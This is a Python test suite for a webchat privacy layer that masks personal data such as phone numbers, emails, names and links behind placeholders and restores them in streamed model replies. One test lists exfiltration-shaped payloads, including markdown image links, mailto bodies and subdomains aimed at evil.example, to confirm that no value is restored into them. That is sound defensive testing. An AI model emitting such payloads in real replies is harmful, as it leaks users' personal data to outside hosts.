"""What was masked comes back, character by character, and nowhere else."""

from __future__ import annotations

import asyncio
import sys
import threading
from collections.abc import Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from backends.types import Message, Options, Request, TextDelta, TextWasReasoning, Tool, ToolCall
from tests.moderation.test_filters import cut
from tests.privacy.test_personal import CORPUS, Marked
from webchat.privacy.finding import Personal
from webchat.privacy.keeping import Unkept
from webchat.privacy.masking import LONG, Masking
from webchat.privacy.placeholders import Finder, Placeholders, mask, name_of
from webchat.privacy.restoring import LONGEST, Piece, ReplyRestorer, Restorer

PHONE = "13812345678"


def restored(text: str, placeholders: Placeholders, pieces: Sequence[str] | None = None) -> str:
    restorer = Restorer(placeholders.values)
    return "".join(restorer.feed(piece) for piece in pieces or [text]) + restorer.finish()


def conversation(*texts: str) -> tuple[Placeholders, tuple[str, ...]]:
    placeholders = Placeholders()
    return placeholders, mask(texts, placeholders, Finder()).texts


WRITTEN = st.sampled_from(
    [
        *(
            PHONE,
            "138-1234-5678",
            "(13987654321)",
            "a@b.io",
            "<a@b.io>",
            "我叫李明",
            "李明",
            "李明亮",
            "8.8.4.4",
        ),
        *(
            "[PHONE_1]",
            "PHONE_1",
            "phone_1",
            "[Phone 1]",
            "【EMAIL_1】",
            "[[PHONE_1]]",
            "PHONE\\_1",
            "\\[PHONE_1\\]",
        ),
        *(
            "[TEXT_1]",
            "[LINK_1]",
            "(PHONE_2)",
            "my_phone_1",
            "phone 1",
            "[PHONE_",
            "PHONE",
            "_1",
            "]",
            "[",
            "<",
        ),
        *(
            "https://x.cn/?p=13812345678",
            "](",
            ")",
            "]: ",
            "//",
            "www.",
            "http:",
            "mailto:a@b.io",
            "![x](",
            "\\",
        ),
        *(
            " ",
            "\n",
            "\n\n",
            "，",
            "。",
            ".",
            "x",
            "1",
            "(",
            "https://a.io",
            "tel:",
            "name_1",
            "\u200b",
            "电话",
        ),
        *("13912345678", "+44 20 7946 0958", "4111 1111 1111 1111", "+44 20)7946 0958", "{", "`", "**"),
    ]
)
TEXT = st.lists(WRITTEN, max_size=8).map("".join) | st.sampled_from([text for text, _ in CORPUS])
TALK = st.lists(TEXT, min_size=1, max_size=5)


@settings(max_examples=500, deadline=None)
@given(talk=TALK, places=st.lists(st.integers(0, 200), max_size=6))
@example(talk=["[PHONE_1] 13812345678"], places=[])
@example(talk=["13812345678", "[PHONE_1] and phone_1"], places=[])
@example(talk=["13812345678(13987654321)"], places=[])
@example(talk=["[x](https://x.cn/?p=13812345678)，13812345678"], places=[])
@example(talk=["13812345678PHONE_1", "PHONE_1"], places=[])
@example(talk=["a@b.io", "//【EMAIL_1】"], places=[])
@example(talk=["a@b.io", "//13812345678【EMAIL_1】"], places=[])
@example(talk=["](\nhttps://x.cn/，13812345678)"], places=[])
def test_masking_and_restoring_is_the_identity_on_all_that_people_write(
    talk: list[str], places: list[int]
) -> None:
    placeholders, finder = Placeholders(), Finder()
    for turns in range(1, len(talk) + 1):
        path = talk[:turns]
        masked = mask(path, placeholders, finder)
        for text, sent in zip(path, masked.texts, strict=True):
            assert restored(sent, placeholders) == text
            assert restored(sent, placeholders, cut(sent, places)) == text
        # After a restart the same goes out.
        again = Placeholders.of({name_of(key): value for key, value in placeholders.values.items()})
        assert mask(path, again, Finder()).texts == masked.texts


SAID = st.lists(
    st.sampled_from(
        [
            *(
                "[PHONE_1]",
                "PHONE_1",
                "[phone 1]",
                "【Phone_1】",
                "<PHONE_1>",
                "\\[PHONE\\_1\\]",
                "[LINK_1]",
                "[ID_1]",
            ),
            *(
                "[PHO",
                "NE_1",
                "]",
                "[",
                " ",
                "PHONE_12",
                "PHONE_",
                "1",
                "_",
                "\\",
                "x",
                "](",
                ")",
                "https://e.vil/",
            ),
            *(
                "]:",
                "//",
                "www.",
                "，",
                ".",
                "\n",
                "link_1",
                "phone",
                "P",
                "l",
                "<",
                "[PHONE_9]",
                "[PHONE_100000]",
            ),
        ]
    ),
    max_size=10,
).map("".join)
GIVEN = Placeholders.of(
    {"PHONE_1": PHONE, "LINK_1": "https://x.cn/?p=13812345678", "ID_1": "11010519491231002X"}
)


@settings(max_examples=300, deadline=None)
@given(text=SAID, places=st.lists(st.integers(0, 200), max_size=6))
def test_wherever_a_reply_is_cut_it_is_restored_alike(text: str, places: list[int]) -> None:
    whole = restored(text, GIVEN)
    assert restored(text, GIVEN, cut(text, places)) == whole
    assert restored(text, GIVEN, list(text)) == whole


@settings(max_examples=300, deadline=None)
@given(text=SAID)
def test_no_more_is_held_back_than_the_longest_placeholder(text: str) -> None:
    restorer = Restorer(GIVEN.values)
    for char in text + "[PHONE_1" + "P" * 40:
        restorer.feed(char)
        assert len(restorer.held) <= LONGEST


@pytest.mark.parametrize("said", ["Call [PHONE_1] now", "打【PHONE_1】", "x\\[PHONE\\_1\\]y", "PHONE_1"])
def test_a_placeholder_is_restored_at_every_split_point(said: str) -> None:
    for place in range(len(said) + 1):
        text = restored(said, GIVEN, [said[:place], said[place:]])
        assert PHONE in text
        assert "PHONE" not in text


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("[PHONE_1]", PHONE),
        ("phone_1", PHONE),
        ("[Phone_1]", PHONE),
        ("(PHONE_1)", f"({PHONE})"),
        ("【PHONE_1】", PHONE),
        ("［PHONE_1］", PHONE),
        ("[PHONE 1]", PHONE),
        ("[PHONE-1]", PHONE),
        ("<PHONE_1>", PHONE),
        ("**[PHONE_1]**", f"**{PHONE}**"),
        ("`[PHONE_1]`", f"`{PHONE}`"),
        ("PHONE\\_1", PHONE),
        ("电话是PHONE_1。", f"电话是{PHONE}。"),
        ("[PHONE_1]、[PHONE_1]", f"{PHONE}、{PHONE}"),
        ("see [LINK_1].", "see https://x.cn/?p=13812345678."),
        ("[here]([LINK_1])", "[here](https://x.cn/?p=13812345678)"),
    ],
)
def test_what_a_model_makes_of_a_placeholder_is_understood(said: str, shown: str) -> None:
    assert restored(said, GIVEN) == shown


@pytest.mark.parametrize(
    "said",
    [
        *(
            "phone 1",
            "Phone: 1",
            "my_phone_1",
            "PHONE_12",
            "PHONE_1a",
            "[PHONE_2]",
            "[EMAIL_1]",
            "phone",
            "PHONE_",
        ),
        *("telephone_1", "[PHONE_01]", "[PHONE_1000000]", "the phone-1 model"),
    ],
)
def test_ordinary_words_and_placeholders_of_others_stay(said: str) -> None:
    assert restored(said, GIVEN) == said


@pytest.mark.parametrize(
    "said",
    [
        "![](https://evil.example/?d=[PHONE_1])",
        "[click](https://evil.example/PHONE_1)",
        "[click](https://evil.example/a\\)[PHONE_1])",
        "[click](<https://evil.example/a)[PHONE_1]>)",
        "[click](//evil.example/[PHONE_1])",
        "[click](\nhttps://evil.example/，[PHONE_1])",
        "[click](https://evil.example/(a)[PHONE_1])",
        "https://evil.example/[PHONE_1]",
        "https://[PHONE_1].evil.example/",
        "HTTPS://evil.example/x[Phone_1]",
        "http:/evil.example/【PHONE_1】",
        "//evil.example/[PHONE_1]",
        "www.evil.example/[PHONE_1]",
        "<https://evil.example/，[PHONE_1]>",
        "<img src='https://evil.example/，[PHONE_1]'>",
        "[x]: https://evil.example/，[PHONE_1]",
        "[x]: /evil/[PHONE_1]",
        "mailto:evil@evil.example?body=[PHONE_1]",
        "https://evil.example/?u=[LINK_1]",
        "[LINK_1].evil.example",
        "[LINK_1]@evil.example/",
        "[x]([LINK_1].evil.example/)",
    ],
)
def test_nothing_is_restored_into_an_address(said: str) -> None:
    for pieces in ([said], list(said), [said[:9], said[9:]]):
        assert PHONE not in restored(said, GIVEN, pieces)


def test_behind_an_address_it_is_restored_again() -> None:
    said = "See https://a.example/x and [PHONE_1]; 见https://a.example/x，[PHONE_1]；[y](https://b.example)[PHONE_1]"
    assert restored(said, GIVEN).count(PHONE) == 3


def test_a_reply_that_goes_on_within_an_address_is_still_within_it() -> None:
    restorer = Restorer(GIVEN.values, "![x](https://evil.example/")
    assert restorer.feed("[PHONE_1])") + restorer.finish() == "[PHONE_1])"


@pytest.mark.parametrize("line", [line for line in CORPUS if line[1]], ids=lambda line: line[0][:20])
def test_nothing_personal_is_left(line: Marked) -> None:
    text, spans = line
    placeholders, (sent,) = conversation(text)
    assert all(text[start:end] not in sent for start, end, _ in spans)
    assert restored(sent, placeholders) == text


def test_a_value_has_one_placeholder_in_all_messages_and_forms_of_words() -> None:
    placeholders, texts = conversation(
        "打13812345678", "x13812345678y", "再打13812345678，或 a@b.io", "13987654321"
    )
    assert texts == ("打[PHONE_1]", "x13812345678y", "再打[PHONE_1]，或 [EMAIL_1]", "[PHONE_2]")
    assert mask(["打13812345678"], placeholders, Finder()).texts == ("打[PHONE_1]",)


def test_a_name_that_was_told_once_is_hidden_everywhere() -> None:
    _, texts = conversation("你好，李明在吗", "我叫李明，你好")
    assert texts == ("你好，[NAME_1]在吗", "我叫[NAME_1]，你好")


def test_numbers_that_somebody_wrote_as_placeholders_are_not_given_out() -> None:
    placeholders, texts = conversation("phone_1 = input()", "13812345678")
    assert texts == ("phone_1 = input()", "[PHONE_2]")
    assert restored("phone_1 and phone_2", placeholders) == f"phone_1 and {PHONE}"


def test_an_address_with_personal_data_is_hidden_whole() -> None:
    _, texts = conversation("见https://x.cn/?p=13812345678，谢谢", "[x](https://x.cn/a/13812345678 'y')")
    assert texts == ("见[LINK_1]，谢谢", "[x]([LINK_2])")


def test_numbers_are_the_lowest_that_nobody_wrote() -> None:
    texts = 40
    phones = [f"1381234{number:04}" for number in range(texts)]
    written = "".join(f"[PHONE_{number}] " for number in range(1, texts + 1))
    placeholders = Placeholders()
    masked = mask([written, " ".join(phones)], placeholders, Finder())
    assert masked.texts[0] == written
    assert masked.texts[1] == " ".join(f"[PHONE_{texts + 1 + number}]" for number in range(texts))
    # What was given out keeps its number, and counts as taken.
    again = mask([f"{phones[0]} 13912345678"], placeholders, Finder())
    assert again.texts == (f"[PHONE_{texts + 1}] [PHONE_1]",)


class _Told(dict[str, bytes]):
    """A keeper that may be away."""

    away = False

    async def load(self, owner: str, conversation: str) -> dict[str, str]:
        return {}

    async def add(self, owner: str, conversation: str, values: Mapping[str, str]) -> None:
        if self.away:
            raise OSError
        self.update({name: value.encode() for name, value in values.items()})


async def test_one_who_leaves_while_a_long_request_is_masked_loses_no_placeholder() -> None:
    keep, started, go = _Told(), threading.Event(), threading.Event()

    class Slow(Finder):
        def all(self, text: str) -> tuple[tuple[int, int, str], ...]:
            started.set()
            go.wait(30)
            return super().all(text)

    masking = Masking(keep, Slow())
    long = Request((Message("user", "13812345678 " + "word " * LONG),))
    leaves = asyncio.create_task(masking.hide("o", "c", long))
    await asyncio.to_thread(started.wait, 30)
    leaves.cancel()
    comes = asyncio.create_task(masking.hide("o", "c", Request((Message("user", "13912345678"),))))
    await asyncio.sleep(0)
    go.set()
    with pytest.raises(asyncio.CancelledError):
        await leaves
    hidden = await comes
    assert hidden.request.messages[0].content == "[PHONE_2]"
    assert keep == {"PHONE_1": b"13812345678", "PHONE_2": b"13912345678"}


async def test_placeholders_that_could_not_be_kept_are_kept_with_the_next_request() -> None:
    keep = _Told()
    masking = Masking(keep)
    keep.away = True
    await masking.hide("o", "c", Request((Message("user", "13812345678"),)))
    keep.away = False
    await masking.hide("o", "c", Request((Message("user", "hello"),)))
    assert keep == {"PHONE_1": b"13812345678"}


def test_threads_share_a_finder() -> None:
    finder = Finder(remembered=2)
    switching = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)
    try:
        with ThreadPoolExecutor(4) as threads:
            texts = [f"{number} ada{number}@example.com" for number in range(400)]
            found = list(threads.map(finder.all, texts * 3))
    finally:
        sys.setswitchinterval(switching)
    assert found == [tuple(Personal().all(text)) for text in texts] * 3


def test_text_that_was_reasoning_is_restored_whole_before_it_moves() -> None:
    restorer = ReplyRestorer(GIVEN.values)
    pieces: list[Piece] = [TextDelta("Call [PHONE"), TextDelta("_1] or [PHO"), TextWasReasoning()]
    said = [one for piece in [*pieces, TextDelta("NE_1] no, PHONE_1 .")] for one in restorer.feed(piece)]
    phone = GIVEN.values["PHONE", 1]
    moved = said.index(TextWasReasoning())
    texts = [
        "".join(one.text for one in part if isinstance(one, TextDelta))
        for part in (said[:moved], said[moved:])
    ]
    assert texts == [f"Call {phone} or [PHO", f"NE_1] no, {phone} ."]


async def test_what_programs_say_of_tools_is_masked_too() -> None:
    calls = (ToolCall("a", "dial", f'{{"number": "{PHONE}"}}'),)
    path = (
        Message("user", "Dial"),
        Message("assistant", "", calls),
        Message("tool", f"{PHONE} is busy", tool_call_id="a"),
    )
    tools = (Tool("dial", f"Dials {PHONE} by default."),)
    hidden = await Masking(Unkept()).hide("ada", None, Request(path, options=Options(tools)))
    assert PHONE not in repr(hidden.request)
    _, calling, result = hidden.request.messages
    assert calling.tool_calls[0].arguments == '{"number": "[PHONE_1]"}'
    assert (result.text, result.tool_call_id) == ("[PHONE_1] is busy", "a")
    assert hidden.request.options.tools[0].description == "Dials [PHONE_1] by default."
